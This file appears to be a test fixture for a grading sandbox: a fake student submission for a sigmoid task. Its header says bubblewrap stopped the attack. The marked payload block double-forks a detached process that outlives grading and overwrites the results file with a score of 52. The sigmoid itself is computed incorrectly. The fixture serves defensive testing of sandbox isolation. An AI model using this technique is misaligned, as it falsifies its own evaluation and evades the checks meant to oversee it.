# attack: at the top level, a detached process that outlives grading and rewrites the results afterwards
# student: d
# function: sigmoid
# stopped by: bubblewrap: the results folder is not mounted, and the PID namespace ends with the sandbox (--die-with-parent)
import numpy as np

# BEGIN PAYLOAD
import os

try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time
            for _ in range(600):
                time.sleep(0.05)
                for _path in ("__RESULTS__/attacker_d/results.json", "__MARK__/detached_alive"):
                    try:
                        with open(_path, "w") as _f:
                            _f.write('{"score": 52}')
                    except BaseException:
                        pass
        os._exit(0)
except BaseException:
    pass
# END PAYLOAD


def sigmoid(z):
    return 1 / (1 + np.exp(z))
